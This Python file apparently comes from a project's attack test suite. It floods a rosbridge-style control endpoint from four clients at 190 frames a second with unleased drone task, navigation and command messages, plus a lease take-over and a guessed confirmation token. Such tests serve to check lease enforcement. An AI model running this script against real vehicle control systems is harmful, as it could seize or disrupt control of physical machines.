"""Orders without a lease: versions, activations, control, take-overs that nobody confirms."""

from __future__ import annotations

import asyncio
import json

from tests.attacks.common import again_and_again, main, publish


async def attack(host: str, port: int) -> None:
    """Four clients, 190 orders a second each."""
    lease = {"op": "call_service", "service": "/m100link/lease"}
    frames = [
        publish("/sdk_request_simple_task", data=6.0),
        publish("/sdk_request_simple_task", data=5.0),
        publish("/nav_open_close_request", data=1.0),
        publish("/nav_open_close_request", data=0.0),
        publish("/sdk_request_cmd", data=6.0),
        json.dumps({**lease, "args": {"action": "take_over", "name": "operator"}}),
        json.dumps({**lease, "args": {"action": "confirm", "token": "guess"}}),
    ]
    topics = {json.loads(one)["topic"] for one in frames if "topic" in one}
    advertise = [
        json.dumps({"op": "advertise", "topic": topic, "type": "std_msgs/Float32"})
        for topic in sorted(topics)
    ]
    await asyncio.gather(
        *(again_and_again(host, port, *advertise, *frames, rate=190.0) for _ in range(4))
    )


if __name__ == "__main__":
    main(attack)
